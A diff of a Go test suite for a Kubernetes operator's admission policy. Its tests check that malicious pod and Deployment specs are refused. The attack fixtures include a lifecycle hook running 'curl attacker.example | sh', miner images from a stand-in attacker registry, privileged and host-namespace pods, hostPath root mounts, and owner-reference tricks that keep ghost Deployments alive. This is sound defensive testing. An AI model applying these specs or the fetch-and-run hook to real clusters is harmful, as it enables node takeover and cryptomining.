@@ -27,6 +27,7 @@ package restraint
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"maps"
 	"os"
@@ -47,6 +48,8 @@ import (
 	schedulingv1 "k8s.io/api/scheduling/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/apimachinery/pkg/util/intstr"
 	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"
@@ -102,19 +105,46 @@ func TestPods(t *testing.T) {
 		return operator.Patch(ctx, changed, client.MergeFrom(current))
 	}
 
-	t.Run("the pod-name label, naming the pod, is the operator's to set and remove", func(t *testing.T) {
+	// A pod that opts in, which the pod labeler running here labels too: the operator's writes
+	// to it are dry runs, admitted or refused as the labeler's are.
+	optedIn := func(name string, labels map[string]string) *corev1.Pod {
+		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels,
+			Annotations: map[string]string{wellknown.DefaultPodLabelAnnotation: wellknown.OptIn}}, Spec: pod.Spec}
+		g.Expect(admin.Create(ctx, p)).To(Succeed())
+		return p
+	}
+	t.Run("the pod-name label, naming the pod, is the operator's to set and remove on a pod that opted in", func(t *testing.T) {
 		g := NewWithT(t)
-		g.Expect(patch(func(p *corev1.Pod) { p.Labels[wellknown.DefaultPodNameLabel] = p.Name })).To(Succeed())
-		g.Expect(patch(func(p *corev1.Pod) { delete(p.Labels, wellknown.DefaultPodNameLabel) })).To(Succeed())
+		opted := optedIn("web-3", map[string]string{"team": "a"})
+		named := opted.DeepCopy()
+		named.Labels[wellknown.DefaultPodNameLabel] = opted.Name
+		g.Expect(operator.Patch(ctx, named, client.MergeFrom(opted), client.DryRunAll)).To(Succeed())
+		g.Eventually(func(g Gomega) {
+			g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(opted), opted)).To(Succeed())
+			g.Expect(opted.Labels).To(HaveKeyWithValue(wellknown.DefaultPodNameLabel, opted.Name))
+		}, 30*time.Second).Should(Succeed())
+		unnamed := opted.DeepCopy()
+		delete(unnamed.Labels, wellknown.DefaultPodNameLabel)
+		g.Expect(operator.Patch(ctx, unnamed, client.MergeFrom(opted), client.DryRunAll)).To(Succeed())
 	})
 	t.Run("the pod-name label another writer set is the operator's to take over", func(t *testing.T) {
 		g := NewWithT(t)
-		own := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-2",
-			Labels: map[string]string{"team": "a", wellknown.DefaultPodNameLabel: "web-0"}}, Spec: pod.Spec}
-		g.Expect(admin.Create(ctx, own)).To(Succeed())
+		own := optedIn("web-2", map[string]string{"team": "a", wellknown.DefaultPodNameLabel: "web-0"})
 		named := own.DeepCopy()
 		named.Labels[wellknown.DefaultPodNameLabel] = own.Name
-		g.Expect(operator.Patch(ctx, named, client.MergeFrom(own))).To(Succeed())
+		g.Expect(operator.Patch(ctx, named, client.MergeFrom(own), client.DryRunAll)).To(Succeed())
+	})
+	t.Run("the pod-name label on a pod that did not opt in is refused", func(t *testing.T) {
+		g := NewWithT(t)
+		refused(g, patch(func(p *corev1.Pod) { p.Labels[wellknown.DefaultPodNameLabel] = p.Name }),
+			`may set padok.fr/pod-name only on a pod annotated padok.fr/add-pod-name-label: "true"`)
+		// Removing it stays the operator's: the opt-in's going is what makes the labeler remove it.
+		unopted := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-4",
+			Labels: map[string]string{wellknown.DefaultPodNameLabel: "web-4"}}, Spec: pod.Spec}
+		g.Expect(admin.Create(ctx, unopted)).To(Succeed())
+		removed := unopted.DeepCopy()
+		delete(removed.Labels, wellknown.DefaultPodNameLabel)
+		g.Expect(operator.Patch(ctx, removed, client.MergeFrom(unopted), client.DryRunAll)).To(Succeed())
 	})
 	t.Run("changing a pod's image is refused", func(t *testing.T) {
 		refused(NewWithT(t), patch(func(p *corev1.Pod) { p.Spec.Containers[0].Image = "attacker.example/miner:1" }),
@@ -168,6 +198,20 @@ func TestLeases(t *testing.T) {
 	// Its own, and one --leader-election-namespace names.
 	NewWithT(t).Expect(operator.Create(ctx, lease(testenv.OperatorNamespace), client.DryRunAll)).To(Succeed())
 	NewWithT(t).Expect(operator.Create(ctx, lease(testenv.NewNamespace(t, admin, "leases-")), client.DryRunAll)).To(Succeed())
+}
+
+// handOver labels namespace ns as handed to applications until t ends.
+func handOver(t *testing.T, ns string) {
+	ctx := context.Background()
+	label := func(value *string) {
+		patch := map[string]any{"metadata": map[string]any{"labels": map[string]any{wellknown.LabelApplicationsNamespace: value}}}
+		data, err := json.Marshal(patch)
+		NewWithT(t).Expect(err).NotTo(HaveOccurred())
+		NewWithT(t).Expect(admin.Patch(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
+			client.RawPatch(types.MergePatchType, data))).To(Succeed())
+	}
+	label(ptr.To(wellknown.ApplicationsEnabled))
+	t.Cleanup(func() { label(nil) })
 }
 
 // grant binds rule to the operator's ServiceAccount until t ends: a platform's mistake, which
@@ -419,6 +463,9 @@ func TestAttacks(t *testing.T) {
 	ctx := context.Background()
 	ns := testenv.NewNamespace(t, admin, "attacks-")
 	w := newWeb(t, ns)
+	namespace := &corev1.Namespace{}
+	NewWithT(t).Expect(admin.Get(ctx, client.ObjectKey{Name: ns}, namespace)).To(Succeed())
+	namespaceUID := namespace.UID
 	// Another party's objects, which the operator does not own.
 	theirs := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "theirs"},
 		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}},
@@ -465,10 +512,10 @@ func TestAttacks(t *testing.T) {
 		"a hostPath volume of the node's root": {pod(func(p *corev1.PodTemplateSpec) {
 			p.Spec.Volumes = append(p.Spec.Volumes, *root)
 		}), "pods use hostPath volumes"},
-		"the node's network":   {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostNetwork = true }), "hostNetwork, hostPID, hostIPC or hostUsers"},
-		"the node's processes": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostPID = true }), "hostNetwork, hostPID, hostIPC or hostUsers"},
-		"the node's IPC":       {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostIPC = true }), "hostNetwork, hostPID, hostIPC or hostUsers"},
-		"a node named":         {pod(func(p *corev1.PodTemplateSpec) { p.Spec.NodeName = "control-plane" }), "name their node (nodeName)"},
+		"the node's network":   {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostNetwork = true }), "pods set hostNetwork: no DemoApplication asks for it"},
+		"the node's processes": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostPID = true }), "pods set hostPID: no DemoApplication asks for it"},
+		"the node's IPC":       {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostIPC = true }), "pods set hostIPC: no DemoApplication asks for it"},
+		"a node named":         {pod(func(p *corev1.PodTemplateSpec) { p.Spec.NodeName = "control-plane" }), "pods set nodeName: no DemoApplication asks for it"},
 		"a privileged container": {securityContext(func(s *corev1.SecurityContext) {
 			s.Privileged, s.AllowPrivilegeEscalation = ptr.To(true), nil
 		}), "privileged containers"},
@@ -495,10 +542,10 @@ func TestAttacks(t *testing.T) {
 		}), "set AppArmor or seccomp by appArmorProfile or by annotation"},
 		"SELinux options": {securityContext(func(s *corev1.SecurityContext) {
 			s.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
-		}), "set procMount, sysctls, seLinuxOptions or windowsOptions"},
+		}), "set seLinuxOptions in their securityContext"},
 		"sysctls": {pod(func(p *corev1.PodTemplateSpec) {
 			p.Spec.SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.ip_local_port_range", Value: "1024 65535"}}
-		}), "set procMount, sysctls, seLinuxOptions or windowsOptions"},
+		}), "set sysctls in their securityContext"},
 		"a sidecar": {pod(func(p *corev1.PodTemplateSpec) {
 			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "miner", Image: "attacker.example/miner:1"})
 		}), "run any container but their one container app (sidecars are init containers)"},
@@ -513,11 +560,14 @@ func TestAttacks(t *testing.T) {
 		}), "run seccomp Unconfined"},
 		"a sidecar on a hostPort": {sidecar(func(c *corev1.Container) {
 			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375, HostPort: 2375}}
-		}), "without ports"},
+		}), "bind a hostPort"},
+		"a sidecar with ports": {sidecar(func(c *corev1.Container) {
+			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375}}
+		}), "containers set ports: no DemoApplication asks for it"},
 		"a sidecar with a lifecycle hook": {sidecar(func(c *corev1.Container) {
 			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
 				Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
-		}), "without ports, lifecycle hooks"},
+		}), "containers set lifecycle: no DemoApplication asks for it"},
 		"more than 8 init containers": {pod(func(p *corev1.PodTemplateSpec) {
 			for i := range 8 {
 				p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: fmt.Sprintf("miner-%d", i), Image: "attacker.example/miner:1"})
@@ -589,6 +639,48 @@ func TestAttacks(t *testing.T) {
 			p.Spec.Ingress[0].From = append(p.Spec.Ingress[0].From, networkingv1.NetworkPolicyPeer{IPBlock: &networkingv1.IPBlock{CIDR: "0.0.0.0/0"}})
 			return p
 		}, "whose every rule lets in pods it selects, not address blocks"},
+		"a NetworkPolicy rule to every port": {func() client.Object {
+			p := w.policy.DeepCopy()
+			p.Spec.Ingress[0].Ports = nil
+			return p
+		}, "to the app's ports, not every port"},
+		"a toleration of every taint, on the control plane": {pod(func(p *corev1.PodTemplateSpec) {
+			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
+			p.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
+		}), "tolerate every taint or the control plane's"},
+		"a toleration of the control plane's taint": {pod(func(p *corev1.PodTemplateSpec) {
+			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Key: "node-role.kubernetes.io/control-plane",
+				Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule})
+		}), "tolerate every taint or the control plane's"},
+		"a required anti-affinity against every pod of the cluster": {pod(func(p *corev1.PodTemplateSpec) {
+			p.Spec.Affinity = &corev1.Affinity{PodAntiAffinity: &corev1.PodAntiAffinity{
+				RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{
+					LabelSelector: &metav1.LabelSelector{}, NamespaceSelector: &metav1.LabelSelector{}, TopologyKey: "kubernetes.io/os"}}}}
+		}), "keep apart from, or spread over, the app's own pods"},
+		"a pod affinity to another's pods": {pod(func(p *corev1.PodTemplateSpec) {
+			p.Spec.Affinity = &corev1.Affinity{PodAffinity: &corev1.PodAffinity{
+				RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{
+					LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}, TopologyKey: "kubernetes.io/hostname"}}}}
+		}), "have no pod affinity"},
+		"a spread over another's pods": {pod(func(p *corev1.PodTemplateSpec) {
+			p.Spec.TopologySpreadConstraints = []corev1.TopologySpreadConstraint{{MaxSkew: 1, TopologyKey: "kubernetes.io/hostname",
+				WhenUnsatisfiable: corev1.DoNotSchedule, LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}}}
+		}), "keep apart from, or spread over, the app's own pods"},
+		"a PodDisruptionBudget that allows no disruption": {func() client.Object {
+			b := w.budget.DeepCopy()
+			b.Spec.MinAvailable, b.Spec.MaxUnavailable = nil, ptr.To(intstr.FromInt32(0))
+			return b
+		}, "a PodDisruptionBudget that allows a disruption"},
+		"a PodDisruptionBudget keeping every pod": {func() client.Object {
+			b := w.budget.DeepCopy()
+			b.Spec.MinAvailable = ptr.To(intstr.FromString("100%"))
+			return b
+		}, "a PodDisruptionBudget that allows a disruption"},
+		"a PodDisruptionBudget that keeps unhealthy pods": {func() client.Object {
+			b := w.budget.DeepCopy()
+			b.Spec.UnhealthyPodEvictionPolicy = ptr.To(policyv1.IfHealthyBudget)
+			return b
+		}, "evicts unhealthy pods (unhealthyPodEvictionPolicy AlwaysAllow)"},
 		"a NetworkPolicy rule from anyone": {func() client.Object {
 			p := w.policy.DeepCopy()
 			p.Spec.Ingress = append(p.Spec.Ingress, networkingv1.NetworkPolicyIngressRule{})
@@ -646,6 +738,14 @@ func TestAttacks(t *testing.T) {
 		d.OwnerReferences[0].UID = "00000000-0000-0000-0000-000000000001"
 		refused(NewWithT(t), write(d, asOperator), "may not change the uid of the controller reference")
 	})
+	t.Run("a second owner that outlives the controller", func(t *testing.T) {
+		// Past OwnerReferencesPermissionEnforcement, which refuses a change of owners to a writer
+		// that may not delete the object, where it runs.
+		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"delete"}})
+		d := w.deployment.DeepCopy()
+		d.OwnerReferences = append(d.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: ns, UID: namespaceUID})
+		refused(NewWithT(t), write(d, asOperator), "whose one owner reference is their controller")
+	})
 	t.Run("the scale subresource", func(t *testing.T) {
 		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments/scale"}, Verbs: []string{"update"}})
 		scale := &autoscalingv1.Scale{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: w.deployment.Name}, Spec: autoscalingv1.ScaleSpec{Replicas: 100}}
@@ -673,8 +773,20 @@ func TestAttacks(t *testing.T) {
 		refused(g, operator.Create(ctx, ghost(metav1.NamespaceSystem, false), asOperator), "may not write deployments in the cluster's own namespace kube-system")
 		refused(g, operator.Create(ctx, ghost(metav1.NamespaceSystem, true), asOperator), "may not write deployments in the cluster's own namespace kube-system")
 	})
+	// The issue's: the same ghost outside the kube-* namespaces, in one the platform never
+	// handed to applications (a GitOps controller's), kept alive by its Namespace as a second
+	// owner so that the garbage collector never deletes it.
+	t.Run("a Deployment in a namespace not handed to applications", func(t *testing.T) {
+		g := NewWithT(t)
+		closed := testenv.NewNamespace(t, admin, "gitops-", testenv.NotForApplications)
+		d := ghost(closed, false)
+		refused(g, operator.Create(ctx, d, asOperator), "only in namespaces labelled paas.cmft.com/applications=enabled, and "+closed+" is not")
+		kept := ghost(ns, false)
+		kept.OwnerReferences = append(kept.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: ns, UID: namespaceUID})
+		refused(g, operator.Create(ctx, kept, asOperator), "whose one owner reference is their controller")
+	})
 	t.Run("a privileged hostPath:/ Deployment", func(t *testing.T) {
-		refused(NewWithT(t), operator.Create(ctx, ghost(ns, true), asOperator), "hostNetwork, hostPID, hostIPC or hostUsers")
+		refused(NewWithT(t), operator.Create(ctx, ghost(ns, true), asOperator), "pods use hostPath volumes")
 	})
 
 	t.Run("another's Deployment taken over, or deleted", func(t *testing.T) {
@@ -687,6 +799,18 @@ func TestAttacks(t *testing.T) {
 		refused(g, write(taken, asOperator), "may change or delete only the deployments controlled by DemoApplication (paas.cmft.com/v1) of their own name")
 		refused(g, operator.Delete(ctx, theirs, client.DryRunAll), "may change or delete only the deployments controlled by DemoApplication "+
 			"(paas.cmft.com/v1) of their own name")
+	})
+
+	t.Run("a Deployment in the operator's namespace running as the operator", func(t *testing.T) {
+		g := NewWithT(t)
+		d := renamed(w.deployment, testenv.OperatorNamespace, "web")
+		d.Spec.Template.Spec.ServiceAccountName, d.Spec.Template.Spec.DeprecatedServiceAccount = testenv.OperatorServiceAccount, ""
+		refused(g, operator.Create(ctx, d.DeepCopy(), asOperator), "only in namespaces labelled paas.cmft.com/applications=enabled")
+		// Even where the platform, by mistake, hands the operator's namespace to applications.
+		handOver(t, testenv.OperatorNamespace)
+		g.Eventually(func(g Gomega) {
+			refused(g, operator.Create(ctx, d.DeepCopy(), asOperator), "run as its own ServiceAccount")
+		}, 30*time.Second).Should(Succeed())
 	})
 
 	// The issue's: a LoadBalancer or externalIPs Service "controlled" by any pod, here another
@@ -739,11 +863,6 @@ func TestAttacks(t *testing.T) {
 			// The app web's selector, on the Deployment of app api.
 			return forCreate(w.deployment, "", "api")
 		}, "a Deployment that selects its app's pods, by the app's labels alone"},
-		"a Deployment in the operator's namespace running as the operator": {func() client.Object {
-			d := renamed(w.deployment, testenv.OperatorNamespace, "web")
-			d.Spec.Template.Spec.ServiceAccountName, d.Spec.Template.Spec.DeprecatedServiceAccount = testenv.OperatorServiceAccount, ""
-			return d
-		}, "run as its own ServiceAccount"},
 		"an ExternalName Service": {func() client.Object {
 			s := forCreate(w.service, "", "api")
 			s.Spec = corev1.ServiceSpec{Type: corev1.ServiceTypeExternalName, ExternalName: "kubernetes.default.svc.cluster.local",
